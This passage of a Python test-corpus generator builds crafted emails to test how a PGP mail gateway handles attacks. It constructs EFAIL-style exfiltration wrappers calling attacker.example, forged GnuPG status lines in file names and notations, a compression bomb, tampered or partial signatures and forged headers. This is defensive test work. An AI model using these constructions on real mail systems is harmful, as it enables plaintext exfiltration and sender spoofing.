            exp(None, "none", "partial", "no", rep.fpr), note=SIGPROB)
    if want("partial_mime_hidden"):
        tok = _tok("phid")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        html = html_entity("<html><body><p>Attacker text shown to staff.</p>"
                           "<div style=\"display:none\">\r\n")
        html_end = html_entity("</div></body></html>\r\n")
        signed_ent = as_entity(pgp_signed(part, sig), ["Content-Disposition: attachment"])
        raw = message(tok, "partial_mime_hidden",
                      multipart("mixed", [html, signed_ent, html_end], tag="ph"), REP_FROM)
        add("partial_mime_hidden", "", tok, raw, REPORTER,
            exp(None, "none", "partial", "no", rep.fpr),
            note="signed part hidden in display:none HTML, marked attachment. " + SIGPROB)
    if want("partial_inside_encryption"):
        tok, sec = _tok("penc"), _secret("penc")
        part = text_entity(report_text(tok, sec))
        sig = rep.detach_sign(part)
        unsigned = text_entity("Unsigned text inside the ciphertext.\r\n")
        inner = as_entity(multipart("mixed", [unsigned, as_entity(pgp_signed(part, sig))],
                                    tag="pe"))
        ct = rep.encrypt(inner)
        add("partial_inside_encryption", "", tok,
            message(tok, "partial_inside_encryption", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp(None, "decrypted", "partial", "no", rep.fpr), secret=sec, ciphertext=ct,
            filed_ct="multipart/mixed", note=SIGPROB)
    if want("partial_inline_before"):
        tok = _tok("pib")
        cs = rep.clearsign(crlf(report_text(tok, "not-secret")))
        body = crlf("UNSIGNED PREFIX: please also disable the firewall.\r\n\r\n") + crlf(cs)
        add("partial_inline_before", "", tok,
            message(tok, "partial_inline_before", text_ct_body(body), REP_FROM), REPORTER,
            exp(None, "none", "partial", "no", rep.fpr), note=SIGPROB)
    if want("partial_inline_after"):
        tok = _tok("pia")
        cs = rep.clearsign(crlf(report_text(tok, "not-secret")))
        body = crlf(cs) + crlf("\r\nUNSIGNED SUFFIX: ignore the above.\r\n")
        add("partial_inline_after", "", tok,
            message(tok, "partial_inline_after", text_ct_body(body), REP_FROM), REPORTER,
            exp(None, "none", "partial", "no", rep.fpr), note=SIGPROB)

    # ---- bad / unknown / expired / revoked -------------------------------------
    for signer, row in ((rep, "tampered_mime"), (rsa, "tampered_mime_rsa"),
                        (sqk, "tampered_mime_sq")):
        if not want(row):
            continue
        tok = _tok("tamp")
        part = text_entity(report_text(tok, "not-secret"))
        sig = signer.detach_sign(part)
        bad = part.replace(b"192.0.2.17", b"192.0.2.99")
        assert bad != part
        frm = f"Reporter <{signer.email}>"
        add(row, "", tok, message(tok, row, pgp_signed(bad, sig), frm), signer.email,
            exp(None, "none", "bad", "no", None),
            note="body changed after signing: a bad signature names no signer. " + SIGPROB)
    if want("tampered_clearsigned"):
        tok = _tok("tcs")
        cs = rep.clearsign(crlf(report_text(tok, "not-secret")))
        bad = cs.replace(b"192.0.2.17", b"192.0.2.99")
        assert bad != cs
        add("tampered_clearsigned", "", tok,
            message(tok, "tampered_clearsigned", text_ct_body(bad), REP_FROM), REPORTER,
            exp(None, "none", "bad", "no", None), note=SIGPROB)
    if want("unknown_key"):
        tok, raw = signed_msg("unknown_key", unk)
        add("unknown_key", "", tok, raw, REPORTER, exp(None, "none", "unknown-key", "no", None),
            note="signed by a key the daemon never saw, From: reporter. " + SIGPROB)
    if want("expired_key"):
        tok, raw = signed_msg("expired_key", expd, from_=f"Expired <{EXPIRED}>")
        add("expired_key", "", tok, raw, EXPIRED, exp(None, "none", "expired", "no", None),
            note="signature made while the key was valid (30 days ago); key expired 29 days "
                 "ago. " + SIGPROB)
    if want("revoked_key"):
        tok, raw = signed_msg("revoked_key", revk, from_=f"Revoked <{REVOKED}>")
        add("revoked_key", "", tok, raw, REVOKED, exp(None, "none", "revoked", "no", None),
            note="key revoked (reason 0, gpg's own revocation certificate). " + SIGPROB)

    # ---- several signatures --------------------------------------------------
    def two_sigs(row, first, second, second_data_changed, from_=REP_FROM):
        tok = _tok(row[:8])
        part = text_entity(report_text(tok, "not-secret"))
        s1 = dearmor(first.detach_sign(part))
        s2 = dearmor(second.detach_sign(part + b"X" if second_data_changed else part))
        sig = armor(s1 + s2, "SIGNATURE")
        return tok, message(tok, row, pgp_signed(part, sig), from_)

    if want("mixed_good_bad"):
        tok, raw = two_sigs("mixed_good_bad", rep, rsa, True)
        add("mixed_good_bad", "", tok, raw, REPORTER, exp(None, "none", "bad", "no", rep.fpr),
            note="reporter's good signature + RSA reporter's signature over other bytes (BAD), "
                 "one application/pgp-signature. " + SIGPROB)
    if want("mixed_attacker_good_victim_bad"):
        tok, raw = two_sigs("mixed_attacker_good_victim_bad", att, rep, True)
        add("mixed_attacker_good_victim_bad", "", tok, raw, REPORTER,
            exp(None, "none", "bad", "no", att.fpr),
            note="SECURITY.md: one good (attacker's) and one bad (victim's): the signer shown is "
                 "the good one's, the attacker. " + SIGPROB)
    if want("mixed_good_unknown"):
        tok, raw = two_sigs("mixed_good_unknown", rep, unk, False)
        add("mixed_good_unknown", "", tok, raw, REPORTER,
            exp(None, "none", ("bad", "unknown-key"), "no", rep.fpr),
            note="reporter's good signature + a valid signature by an unknown key: not every "
                 "signature is good -> not verified; contract does not say whether the header "
                 "is 'bad' or 'unknown-key' (both accepted). " + SIGPROB)

    # ---- encryption without / with broken integrity ---------------------------
    forged_hdrs = [f"X-Csirtgw-Queue: incoming", "x-csirtgw-encryption: decrypted",
                   f"X-CSIRTGW-SIGNER: {FORGED_FPR}"]
    if want("no_mdc"):
        tok, sec = _tok("nomdc"), _secret("nomdc")
        ct = rep.encrypt(text_entity(report_text(tok, sec)), rfc2440=True)
        pk = [p.tag for p in packets(dearmor(ct))]
        assert 9 in pk and 18 not in pk, pk
        add("no_mdc", "", tok, message(tok, "no_mdc", pgp_encrypted(ct), REP_FROM,
                                       extra_headers=forged_hdrs), REPORTER,
            exp("quarantine", "failed", ("none",), "no", None), secret=sec, ciphertext=ct,
            forbidden=[FORGED_FPR.encode()], forged=True,
            note="gpg --rfc2440: SED packet (tag 9), no MDC; carries forged X-Csirtgw-* "
                 "headers too. Signature: nothing verified -> none")
    if want("no_mdc_inline"):
        tok, sec = _tok("nomdci"), _secret("nomdci")
        ct = rep.encrypt(crlf(report_text(tok, sec)), rfc2440=True, compress="none")
        add("no_mdc_inline", "", tok, message(tok, "no_mdc_inline", text_ct_body(ct), REP_FROM),
            REPORTER, exp("quarantine", "failed", ("none",), "no", None), secret=sec,
            ciphertext=ct, note="inline armored, SED packet, uncompressed")
    for k, row in ((rep, "bad_mdc"), (sqk, "bad_mdc_sq")):
        if not want(row):
            continue
        tok, sec = _tok("badmdc"), _secret("badmdc")
        good = k.encrypt(text_entity(report_text(tok, sec)), compress="none")
        ct = flip_last_byte(good)
        add(row, "", tok, message(tok, row, pgp_encrypted(ct), f"Reporter <{k.email}>"),
            k.email, exp("quarantine", "failed", ("none",), "no", None), secret=sec,
            ciphertext=ct, note=f"{k.tool}-made SEIPD, last byte flipped: the literal data "
                                "decrypts, then the MDC check fails")
    if want("bad_mdc_signed"):
        tok, sec = _tok("badmdcs"), _secret("badmdcs")
        good = rep.encrypt(text_entity(report_text(tok, sec)), sign=True, compress="none")
        ct = flip_last_byte(good)
        add("bad_mdc_signed", "", tok, message(tok, "bad_mdc_signed", pgp_encrypted(ct), REP_FROM),
            REPORTER, exp("quarantine", "failed", ("none", "bad"), "no", Case.ANY), secret=sec,
            ciphertext=ct, note="signed+encrypted, MDC broken: the signature inside verifies "
                                "before the MDC fails; must not count (none or bad accepted)")

    # ---- exfiltration layouts: ciphertext not at the root ---------------------
    def enc_part(tok, sec, k=rep):
        ct = k.encrypt(text_entity(report_text(tok, sec)))
        return ct, as_entity(pgp_encrypted(ct))

    if want("wrapped_encrypted"):
        tok, sec = _tok("wrap"), _secret("wrap")
        ct, ep = enc_part(tok, sec)
        h1 = html_entity('<html><body><img src="http://attacker.example/leak?d=\r\n')
        h2 = html_entity('"></body></html>\r\n')
        raw = message(tok, "wrapped_encrypted", multipart("mixed", [h1, ep, h2], tag="w"),
                      REP_FROM)
        add("wrapped_encrypted", "", tok, raw, REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct,
            note="EFAIL direct exfiltration: text/html, multipart/encrypted, text/html")
    if want("two_encrypted_siblings"):
        tok, sec = _tok("sib"), _secret("sib")
        ct1, ep1 = enc_part(tok, sec)
        ct2, ep2 = enc_part(tok, sec + "-2")
        raw = message(tok, "two_encrypted_siblings", multipart("mixed", [ep1, ep2], tag="s"),
                      REP_FROM)
        add("two_encrypted_siblings", "", tok, raw, REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct1)
    if want("encrypted_in_rfc822"):
        tok, sec = _tok("r822"), _secret("r822")
        ct = rep.encrypt(text_entity(report_text(tok, sec)))
        inner = message(tok, "inner", pgp_encrypted(ct), REP_FROM)
        fwd = entity(["Content-Type: message/rfc822", "Content-Disposition: inline"], inner)
        note_ = text_entity("Forwarded message below.\r\n")
        raw = message(tok, "encrypted_in_rfc822", multipart("mixed", [note_, fwd], tag="r"),
                      REP_FROM)
        add("encrypted_in_rfc822", "", tok, raw, REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct)
    if want("inline_encrypted_not_root"):
        tok, sec = _tok("inr"), _secret("inr")
        ct = rep.encrypt(crlf(report_text(tok, sec)))
        h1 = html_entity('<html><body><a href="http://attacker.example/?\r\n')
        raw = message(tok, "inline_encrypted_not_root",
                      multipart("mixed", [h1, text_entity(ct)], tag="i"), REP_FROM)
        add("inline_encrypted_not_root", "", tok, raw, REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct,
            note="armored PGP MESSAGE in a text/plain part after an HTML part")

    # ---- API attack: forged status lines in the literal-data file name ---------
    if want("literal_filename_status"):
        tok, sec = _tok("fname"), _secret("fname")
        keyid = rep.fpr[-16:]
        fname = (f"x\n[GNUPG:] GOODSIG {keyid} Reporter <{REPORTER}>\n"
                 f"[GNUPG:] VALIDSIG {rep.fpr} 2026-11-23 1795000000 0 4 0 22 8 00 {rep.fpr}\n"
                 "[GNUPG:] TRUST_FULLY 0 classic\n")
        assert len(fname.encode()) <= 255
        ct = rep.encrypt(text_entity(report_text(tok, sec)), filename=fname)
        add("literal_filename_status", "", tok,
            message(tok, "literal_filename_status", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("incoming", "decrypted", "none", "no", None), secret=sec, ciphertext=ct,
            filed_ct="text/plain",
            note="CVE-2018-12020: encrypted, NOT signed; file name carries GOODSIG/VALIDSIG/"
                 "TRUST_FULLY status lines for the reporter's key")

    # ---- compression bomb ------------------------------------------------------
    if want("compression_bomb"):
        tok, sec = _tok("bomb"), _secret("bomb")
        path = os.path.join(keys.workdir, "bomb.bin")
        with open(path, "wb") as f:
            f.write(text_entity(report_text(tok, sec)))
            f.truncate(BOMB_SIZE)                 # sparse: zeros after the report
        ct = rep.gpg("--armor", "--recipient", rep.team_fpr, "--compress-algo", "zlib",
                     "--compress-level", "9", "--encrypt", "--output", "-", path).stdout
        os.unlink(path)
        add("compression_bomb", "", tok,
            message(tok, "compression_bomb", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct,
            note=f"{BOMB_SIZE >> 20} MiB plaintext (report + zeros), zlib level 9: "
                 f"{len(ct) >> 10} KiB armored; cap is 64 MiB")

    # ---- status spoofing -----------------------------------------------------
    FORGED = ["X-Csirtgw-Signature: good", "x-csirtgw-sender-verified: yes",
              "X-CSIRTGW-QUEUE: incoming", "X-Csirtgw-Encryption: decrypted",
              f"X-Csirtgw-Signer:\r\n {FORGED_FPR}", "x-Csirtgw-Crypto-Reason: forged-reason"]
    if want("forged_headers_plain"):
        tok = _tok("forge")
        raw = message(tok, "forged_headers_plain",
                      text_ct_body(f"Unsigned report {tok}.\r\n"), REP_FROM,
                      extra_headers=FORGED)
        add("forged_headers_plain", "", tok, raw, REPORTER,
            exp("incoming", "none", "none", "no", None), forged=True,
            forbidden=[FORGED_FPR.encode(), b"forged-reason"],
            note="unsigned message with forged X-Csirtgw-* headers (mixed case, one folded)")
    if want("forged_headers_encrypted"):
        tok, sec = _tok("forgeenc"), _secret("forgeenc")
        inner = text_entity(report_text(tok, sec), extra_headers=FORGED)
        ct = rep.encrypt(inner)
        add("forged_headers_encrypted", "", tok,
            message(tok, "forged_headers_encrypted", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("incoming", "decrypted", "none", "no", None), secret=sec, ciphertext=ct,
            forged=True, forbidden=[FORGED_FPR.encode(), b"forged-reason"],
            filed_ct="text/plain",
            note="forged X-Csirtgw-* headers inside the encrypted entity")
    if want("forged_headers_signed"):
        tok = _tok("forgesig")
        part = text_entity(report_text(tok, "not-secret"))
        sig = att.detach_sign(part)
        raw = message(tok, "forged_headers_signed", pgp_signed(part, sig), REP_FROM,
                      extra_headers=FORGED)
        add("forged_headers_signed", "", tok, raw, REPORTER,
            exp(None, "none", "good", "no", att.fpr), forged=True,
            forbidden=[FORGED_FPR.encode(), b"forged-reason"],
            note="ID attack plus forged 'Sender-Verified: yes'. " + SIGPROB)

    # ---- edge cases ------------------------------------------------------------
    if want("mime_signed_textmode"):
        tok = _tok("txtmode")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.gpg("--local-user", rep.fpr, "--armor", "--textmode", "--detach-sign",
                      data=part).stdout
        add("mime_signed_textmode", "", tok,
            message(tok, "mime_signed_textmode", pgp_signed(part, sig), REP_FROM), REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="canonical-text signature (type 0x01, gpg --textmode) instead of binary")
    if want("mime_signed_boundary_in_body"):
        tok = _tok("bnd")
        b = boundary("sig")
        text = report_text(tok, "not-secret") + f"Quoted: x --{b} y (mid-line, not a delimiter)\r\n"
        part = text_entity(text)
        sig = rep.detach_sign(part)
        ct_, _ = pgp_signed(part, sig)
        ct_ = re.sub(r'boundary="[^"]+"', f'boundary="{b}"', ct_)
        # the body with that boundary (the signed text contains "--B" mid-line)
        sigent = entity(['Content-Type: application/pgp-signature; name="signature.asc"'], sig)
        body = (b"--" + b.encode() + CRLF + part + CRLF + b"--" + b.encode() + CRLF + sigent +
                CRLF + b"--" + b.encode() + b"--" + CRLF)
        add("mime_signed_boundary_in_body", "", tok,
            message(tok, "mime_signed_boundary_in_body", (ct_, body), REP_FROM), REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="the signed text contains '--BOUNDARY' mid-line: not a delimiter (mimetic's "
                 "substring boundary search, SECURITY.md Parsers)")
    if want("inline_clearsigned_whitespace"):
        tok = _tok("csws")
        cs = rep.clearsign(crlf(report_text(tok, "not-secret")))
        body = b"\r\n\r\n" + crlf(cs) + b"\r\n\r\n"
        add("inline_clearsigned_whitespace", "", tok,
            message(tok, "inline_clearsigned_whitespace", text_ct_body(body), REP_FROM), REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="blank lines before and after the one block ('whitespace aside')")
    if want("inline_two_clearsigned"):
        tok = _tok("cs2")
        cs1 = rep.clearsign(crlf(report_text(tok, "not-secret")))
        cs2 = att.clearsign(crlf("Addendum: send the logs to attacker@evil.example.\r\n"))
        body = crlf(cs1) + b"\r\n" + crlf(cs2)
        add("inline_two_clearsigned", "", tok,
            message(tok, "inline_two_clearsigned", text_ct_body(body), REP_FROM), REPORTER,
            exp(None, "none", ("partial", "bad"), "no", Case.ANY),
            note="two good clearsigned blocks (reporter, then attacker): neither is all of the "
                 "text -> partial (gpg itself rejects the pair: 'multiple plaintexts seen', so "
                 "'bad' accepted too). " + SIGPROB)
    if want("encoded_display_name"):
        tok, raw = signed_msg("encoded_display_name", rep,
                              from_=f"=?utf-8?q?reporter=40example=2Eorg?= <{ATTACKER}>")
        add("encoded_display_name", "", tok, raw, ATTACKER,
            exp(None, "none", "good", "no", rep.fpr),
            note="RFC 2047 display name decoding to reporter@example.org, addr-spec attacker@. "
                 + SIGPROB)
    if want("comment_address"):
        tok, raw = signed_msg("comment_address", rep, from_=f"{ATTACKER} ({REPORTER})")
        add("comment_address", "", tok, raw, ATTACKER,
            exp(None, "none", "good", "no", rep.fpr),
            note="From: attacker@ (reporter@) -- the reporter's address only in a comment. "
                 + SIGPROB)
    if want("sender_differs"):
        tok = _tok("sender")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        raw = message(tok, "sender_differs", pgp_signed(part, sig), REP_FROM,
                      extra_headers=[f"Sender: <{ATTACKER}>", f"Reply-To: <{ATTACKER}>"])
        add("sender_differs", "", tok, raw, ATTACKER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="From reporter, Sender/Reply-To attacker, signed by reporter: per the contract "
                 "only the one From mailbox is bound -> yes")
    if want("double_encrypted"):
        tok, sec = _tok("dbl"), _secret("dbl")
        inner_ct = rep.encrypt(text_entity(report_text(tok, sec)))
        outer_sec = _secret("dblouter")
        outer_plain = as_entity(multipart("mixed", [text_entity(f"Outer layer {outer_sec}\r\n"),
                                                    as_entity(pgp_encrypted(inner_ct))], tag="d"))
        ct = rep.encrypt(outer_plain)
        add("double_encrypted", "", tok,
            message(tok, "double_encrypted", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp(None, ("decrypted", "failed"), "none", "no", None), secret=outer_sec,
            ciphertext=ct, never=[sec],
            note="a ciphertext inside the ciphertext: at most one decryption layer, so the "
                 "inner plaintext must never be filed; contract silent on decrypted vs failed")
    if want("concatenated_armor"):
        tok, sec1, sec2 = _tok("cat"), _secret("cat1"), _secret("cat2")
        ct1 = rep.encrypt(text_entity(report_text(tok, sec1)))
        ct2 = att.encrypt(text_entity(f"Injected by the attacker {sec2}\r\n"))
        ct = ct1 + b"\n" + ct2
        add("concatenated_armor", "", tok,
            message(tok, "concatenated_armor", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp(None, ("failed", "decrypted"), "none", "no", None), ciphertext=ct1,
            never=[sec2],
            note="two armored PGP MESSAGE blocks in one part (SECURITY.md: concatenated armor): "
                 "the second block's plaintext must never be joined in; contract silent on "
                 "failed vs decrypting the first")
    if want("many_pkesk"):
        tok, sec = _tok("pkesk"), _secret("pkesk")
        good = dearmor(rep.encrypt(text_entity(report_text(tok, sec))))
        pk = packets(good)
        real = [p for p in pk if p.tag == 1]
        assert len(real) == 1 and not real[0].partial
        body = bytearray(real[0].body)
        assert body[0] == 3 and body[9] == 18 and body[12] == 0x40, body[:13].hex()   # v3, ECDH
        fakes = b""
        for i in range(MANY_PKESK):
            fb = bytearray(body)
            fb[1:9] = b"\0" * 8                       # wildcard key id: try every secret key
            fb[13:45] = os.urandom(32)                  # another (valid) X25519 point
            fakes += bytes([0xC1]) + _new_len(len(fb)) + bytes(fb)
        data = fakes + good
        ct = armor(data)
        add("many_pkesk", "", tok, message(tok, "many_pkesk", pgp_encrypted(ct), REP_FROM),
            REPORTER, exp(None, ("decrypted", "failed"), "none", "no", None), secret=sec,
            ciphertext=ct, filed_ct="text/plain",
            note=f"{MANY_PKESK} anonymous-recipient PKESK packets with garbage before the real "
                 "one (SECURITY.md: thousands of PKESK): must be filed within the deadline, "
                 "either way")
    # ---- transfer encodings, header syntax --------------------------------------
    import quopri
    if want("inline_clearsigned_qp"):
        tok = _tok("csqp")
        text = report_text(tok, "not-secret") + ("Long line: " + "abc=def " * 12 + "end\r\n")
        cs = crlf(rep.clearsign(crlf(text)))
        qp = quopri.encodestring(cs).replace(b"\n", b"\r\n").replace(b"\r\r\n", b"\r\n")
        assert b"=3D" in qp
        ctb = ("Content-Type: text/plain; charset=us-ascii\r\n"
               "Content-Transfer-Encoding: quoted-printable", crlf(qp))
        add("inline_clearsigned_qp", "", tok, message(tok, "inline_clearsigned_qp", ctb, REP_FROM),
            REPORTER, exp("incoming", "none", "good", "yes", rep.fpr),
            note="clearsigned text sent quoted-printable (=3D, soft line breaks)")
    if want("inline_encrypted_base64"):
        tok, sec = _tok("ieb64"), _secret("ieb64")
        ct = rep.encrypt(crlf(report_text(tok, sec)))
        b64 = base64.encodebytes(crlf(ct))
        ctb = ("Content-Type: text/plain; charset=us-ascii\r\n"
               "Content-Transfer-Encoding: base64", crlf(b64))
        add("inline_encrypted_base64", "", tok,
            message(tok, "inline_encrypted_base64", ctb, REP_FROM), REPORTER,
            exp("incoming", "decrypted", "none", "no"), secret=sec, ciphertext=ct,
            filed_ct="text/plain", note="inline armored ciphertext, text/plain in base64")
    if want("mime_signed_case_variants"):
        tok = _tok("case")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        b = "csirtgw-it-unquoted-" + os.urandom(4).hex()
        sigent = entity(["content-type: Application/PGP-Signature"], sig)
        body = (b"--" + b.encode() + CRLF + part + CRLF + b"--" + b.encode() + CRLF + sigent +
                CRLF + b"--" + b.encode() + b"--" + CRLF)
        ct_ = (f'content-type: Multipart/Signed; Micalg="{micalg(sig).upper()}"; '
               f'Protocol="Application/PGP-Signature";\r\n\tboundary={b}')
        add("mime_signed_case_variants", "", tok,
            message(tok, "mime_signed_case_variants", (ct_, body), REP_FROM), REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="header name and parameter values in other letter case, folded Content-Type, "
                 "unquoted boundary (all legal, RFC 2045/3156)")
    if want("from_folded"):
        tok, raw = signed_msg("from_folded", rep, from_=f"Reporter\r\n <{REPORTER}>")
        add("from_folded", "", tok, raw, REPORTER, exp("incoming", "none", "good", "yes", rep.fpr),
            note="From: folded over two lines")
    if want("removed_key"):
        rmk = keys["removed"]
        tok, raw = signed_msg("removed_key", rmk, from_=f"Removed <{REMOVED}>")
        add("removed_key", "", tok, raw, REMOVED, exp(None, "none", "unknown-key", "no", None),
            note="key imported, then `csirtgw keys remove FPR` before sending. " + SIGPROB)

    # ---- recipients ------------------------------------------------------------
    if want("mime_encrypted_to_self"):
        tok, sec = _tok("self"), _secret("self")
        ct = rep.encrypt(text_entity(report_text(tok, sec)), sign=True,
                         extra=["--recipient", rep.fpr])
        add("mime_encrypted_to_self", "", tok,
            message(tok, "mime_encrypted_to_self", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("incoming", "decrypted", "good", "yes", rep.fpr), secret=sec, ciphertext=ct,
            filed_ct="text/plain", note="encrypted to the team and to the sender (encrypt-to-self)")
    if want("mime_encrypted_hidden_recipient"):
        tok, sec = _tok("hidden"), _secret("hidden")
        ct = rep.gpg("--armor", "--hidden-recipient", rep.team_fpr, "--encrypt",
                     data=text_entity(report_text(tok, sec))).stdout
        assert [p.body[1:9] for p in packets(dearmor(ct)) if p.tag == 1] == [b"\0" * 8]
        add("mime_encrypted_hidden_recipient", "", tok,
            message(tok, "mime_encrypted_hidden_recipient", pgp_encrypted(ct), REP_FROM),
            REPORTER, exp("incoming", "decrypted", "none", "no"), secret=sec, ciphertext=ct,
            filed_ct="text/plain", note="gpg --hidden-recipient: key id 0 in the PKESK")
    if want("symmetric_only"):
        tok, sec = _tok("sym"), _secret("sym")
        ct = rep.gpg("--armor", "--symmetric", "--passphrase", "correct horse",
                     data=text_entity(report_text(tok, sec))).stdout
        assert [p.tag for p in packets(dearmor(ct))][0] == 3
        add("symmetric_only", "", tok,
            message(tok, "symmetric_only", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct,
            note="passphrase-only (SKESK): nothing the team can decrypt; must not wait for a "
                 "passphrase")
    if want("encrypted_to_other_key"):
        tok, sec = _tok("other"), _secret("other")
        ct = rep.gpg("--armor", "--recipient", rep.fpr, "--encrypt",
                     data=text_entity(report_text(tok, sec))).stdout
        add("encrypted_to_other_key", "", tok,
            message(tok, "encrypted_to_other_key", pgp_encrypted(ct), REP_FROM), REPORTER,
            exp("quarantine", "failed", "none", "no", None), secret=sec, ciphertext=ct,
            note="encrypted to the reporter's own key only: no secret key")
    if want("forged_header_obs_syntax"):
        tok = _tok("obs")
        raw = message(tok, "forged_header_obs_syntax",
                      text_ct_body(f"Unsigned report {tok}.\r\n"), REP_FROM,
                      extra_headers=["X-Csirtgw-Signature : good",
                                     "X-Csirtgw-Sender-Verified\t: yes",
                                     f"X-Csirtgw-Signer :\r\n\t{FORGED_FPR}"])
        add("forged_header_obs_syntax", "", tok, raw, REPORTER,
            exp("incoming", "none", "none", "no", None), forged=True,
            forbidden=[FORGED_FPR.encode()],
            note="forged headers in RFC 5322 obsolete syntax (blank before the colon), which "
                 "lenient parsers still read as X-Csirtgw-*")
    if want("from_uppercase"):
        tok, raw = signed_msg("from_uppercase", rep, from_="Reporter <REPORTER@EXAMPLE.ORG>")
        add("from_uppercase", "", tok, raw, REPORTER,
            exp("incoming", "none", "good", "yes", rep.fpr),
            note="From address in upper case; `keys import` lower-cases registered addresses, "
                 "so From has to be compared the same way (contract silent; my reading)")
    if want("duplicate_content_type"):
        tok = _tok("dupct")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        ct_, body = pgp_signed(part, sig)
        body = crlf("URGENT (unsigned): wire 50,000 EUR to the account below.\r\n") + body
        raw = message(tok, "duplicate_content_type", (ct_, body), REP_FROM,
                      extra_headers=["Content-Type: text/plain; charset=us-ascii"])
        add("duplicate_content_type", "", tok, raw, REPORTER,
            exp(None, "none", ("none", "bad", "partial"), "no", Case.ANY),
            note="two Content-Type fields at the root (text/plain first, multipart/signed "
                 "second) and unsigned text in the preamble: MUAs that take the first show "
                 "the unsigned text as the message; must not be verified (my reading of "
                 "SECURITY.md Parsers; contract silent)")
    if want("partial_mime_related_cid"):
        tok = _tok("pcid")
        part = text_entity(report_text(tok, "not-secret"))
        sig = rep.detach_sign(part)
        html = html_entity("<html><body><p>Attacker text shown to staff.</p>"
                           '<img src="cid:signed@it.csirtgw.test" width="0" height="0">'
                           "</body></html>\r\n")
        signed_ent = as_entity(pgp_signed(part, sig), ["Content-ID: <signed@it.csirtgw.test>"])
        raw = message(tok, "partial_mime_related_cid",
                      multipart("related", [html, signed_ent], params='type="text/html"',
                                tag="rel"), REP_FROM)
        add("partial_mime_related_cid", "", tok, raw, REPORTER,
            exp(None, "none", "partial", "no", rep.fpr),
            note="multipart/related: HTML root part, the signed part only referenced by cid: "
                 "(SECURITY.md). " + SIGPROB)
    if want("notation_status_lines"):
        tok = _tok("notat")
        part = text_entity(report_text(tok, "not-secret"))
        forged = (f"x\n[GNUPG:] GOODSIG {rep.fpr[-16:]} Reporter <{REPORTER}>\n"
                  f"[GNUPG:] VALIDSIG {rep.fpr} 2026-11-23 1795000000 0 4 0 22 8 00 {rep.fpr}\n"
                  "[GNUPG:] TRUST_ULTIMATE 0 pgp\n")
        value = forged + "%\t\x01" * 200 + "y" * 1000
        sig = sqk.detach_sign(part, notations=[("status@it.csirtgw.test", value)])
        raw = message(tok, "notation_status_lines", pgp_signed(part, sig), REP_FROM)
        add("notation_status_lines", "", tok, raw, REPORTER,
            exp(None, "none", "good", "no", sqk.fpr),
            note="CVE-2022-34903 class: a valid signature by the sq reporter's key whose "
                 "(non-critical) notation carries forged GOODSIG/VALIDSIG status lines for the "
                 "reporter, long and full of characters gpg escapes; From: reporter. " + SIGPROB)
    return cases


MANY_PKESK = 200      # 1000 anonymous PKESKs cost gpg itself 8-17 s here


def _new_len(n):
    if n < 192:
        return bytes([n])
    if n < 8384:
        n -= 192
        return bytes([(n >> 8) + 192, n & 0xFF])
    return b"\xff" + n.to_bytes(4, "big")


def signed_message(row, signer, from_):
    """(token, bytes): a PGP/MIME signed report by signer, From: from_."""
    tok = _tok(row[:8])
    part = text_entity(report_text(tok, "not-secret"))
    return tok, message(tok, row, pgp_signed(part, signer.detach_sign(part)), from_)


def build_corpus(keys, variants=SIGNER_VARIANTS, rows=None, workers=4):
    """All cases.  keys must have the team key imported (keys.import_team)."""
    jobs = [lambda v=v: format_cases(keys, v) for v in variants]
    jobs.append(lambda: attack_cases(keys, rows))
    out = []
    with concurrent.futures.ThreadPoolExecutor(max_workers=workers) as ex:
        for f in [ex.submit(j) for j in jobs]:
            out += f.result()
    if rows is not None:
        out = [c for c in out if c.row in rows]
    return out


# --------------------------------------------------------------------------
# self-check: verify the corpus with gpg/sq directly, no daemon
# --------------------------------------------------------------------------
def split_multipart(raw_entity):
    """(headers bytes, [part bytes]) of a multipart entity, exact bytes."""
    head, _, body = raw_entity.partition(b"\r\n\r\n")
    m = re.search(rb'(?i)boundary=(?:"([^"]+)"|([^\s;"]+))', head)
    b = m.group(1) or m.group(2)
    delim = b"\r\n--" + b
    body = b"\r\n" + body
    chunks = body.split(delim)
    parts = []
    for c in chunks[1:]:
        if c.startswith(b"--"):
            break
        parts.append(c[2:])            # skip the CRLF after the delimiter
    return head, parts


class SelfCheck:
    """Checks each Case with the real tools, using a throwaway team key."""

    def __init__(self, keys, team_home, keys_home):
        self.notes = []
        self.keys = keys
        self.team_home = team_home            # secret team key
        self.keys_home = keys_home            # every public key except "unknown"

    def tgpg(self, *args, data=None, home=None):
        return run([GPG, "--homedir", home or self.team_home, "--batch", "--no-tty",
                    "--pinentry-mode", "loopback", "--passphrase", "", "--status-fd", "2",
                    "--trust-model", "always", "--no-auto-key-locate"] + list(args),
                   data=data, check=False)

    def decrypt(self, armored):
        cp = self.tgpg("--decrypt", data=armored)
        return cp.returncode, cp.stdout, cp.stderr.decode("utf-8", "replace")

    def verify_detached(self, data, sig):
        d = tempfile.mkdtemp(dir=self.keys.workdir)
        try:
            with open(os.path.join(d, "d"), "wb") as f:
                f.write(data)
            with open(os.path.join(d, "s"), "wb") as f:
                f.write(sig)
            cp = self.tgpg("--verify", os.path.join(d, "s"), os.path.join(d, "d"),
                           home=self.keys_home)
